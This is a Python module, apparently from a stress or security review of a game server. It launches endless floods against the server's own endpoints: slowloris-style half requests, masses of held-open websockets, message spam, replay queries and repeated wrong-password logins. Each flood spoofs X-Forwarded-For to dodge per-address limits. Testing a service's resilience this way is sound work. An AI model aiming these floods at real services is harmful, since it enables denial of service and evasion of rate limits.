"""Those who flood a server, each from an address of their own and all in a process of their own, until it is ended."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Awaitable, Callable, Mapping
from typing import Final, NamedTuple
from urllib.error import HTTPError
from urllib.request import Request, urlopen

from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

_PAUSE: Final = 0.2  # seconds somebody who is not let in waits before they try again


class Target(NamedTuple):
    """What is attacked: a server, a table where anybody may watch, a replay, and the attackers' own seat."""

    address: str
    table: str
    replay: str
    token: str

    @property
    def socket(self) -> str:
        """The address of the socket of the table."""
        return f"ws{self.address.removeprefix('http')}/api/tables/{self.table}/play"


def _away(number: int) -> dict[str, str]:
    return {"X-Forwarded-For": f"198.51.100.{number + 1}"}


async def _held(target: Target, number: int, hello: str, say: str = "", a_second: float = 0.0) -> None:
    """A socket that is opened again whenever it is closed, says hello or nothing, and then the same again and again."""
    while True:
        with contextlib.suppress(OSError, WebSocketException):
            async with connect(target.socket, additional_headers=_away(number), max_queue=None) as socket:
                if hello:
                    await socket.send(hello)
                listening = asyncio.create_task(socket.wait_closed())
                told = 0
                while not listening.done():
                    if say:
                        told += 1
                        await socket.send(say.replace("NUMBER", str(told)))
                    await asyncio.sleep(1 / a_second if a_second else _PAUSE)
        await asyncio.sleep(_PAUSE)


def _asked(url: str, headers: Mapping[str, str], body: bytes | None = None) -> None:
    request = Request(url, body, {"Content-Type": "application/json", **headers})
    with contextlib.suppress(HTTPError, OSError), urlopen(request, timeout=60) as answer:
        answer.read()


async def _asking(number: int, url: str, body: bytes | None = None) -> None:
    """One who asks for the same as soon as they have been answered."""
    while True:
        await asyncio.to_thread(_asked, url, _away(number) | {"X-Six-Realms": "1"}, body)
        await asyncio.sleep(0.02)


async def _half(target: Target) -> None:
    """A connection that never sends the end of its request."""
    host, _, port = target.address.removeprefix("http://").rpartition(":")
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(b"GET /health HTTP/1.1\r\nHost: ")
            await reader.read()
            writer.close()
        await asyncio.sleep(_PAUSE)


WATCH: Final = '{"type":"hello"}'
LOGIN: Final = json.dumps({"name": "Zenobia", "password": "not her password"}).encode()


def _orders(target: Target) -> str:
    return json.dumps({"type": "hello", "token": target.token})


#: The floods of the review: what one attacker of each does, and how many of them one address sends.
FLOODS: Final[Mapping[str, tuple[int, Callable[[Target, int], Awaitable[None]]]]] = {
    "nothing": (0, lambda target, number: _half(target)),
    "spectators": (64, lambda target, number: _held(target, number, WATCH)),
    "silent sockets": (200, lambda target, number: _held(target, number, "")),
    "half requests": (300, lambda target, number: _half(target)),
    "resync": (8, lambda target, number: _held(target, number, WATCH, '{"type":"resync"}', 48)),
    "looks into replays": (12, lambda target, number: _asking(number, f"{target.replay}?card=1&at=100000")),
    "wrong passwords": (8, lambda target, number: _asking(number, f"{target.address}/api/me/login", LOGIN)),
    "orders": (
        12,
        lambda target, number: _held(
            target, number, _orders(target), '{"type":"orders","id":"NUMBER","orders":{"mode":"ask","never":[]}}', 40
        ),
    ),
}


def flood(name: str, times: int, target: Target) -> None:
    """Send one of the floods from so many addresses, for ever."""

    async def all_at_once() -> None:
        each, attacker = FLOODS[name]
        await asyncio.gather(*(attacker(target, number) for number in range(times) for _ in range(each)))

    asyncio.run(all_at_once())
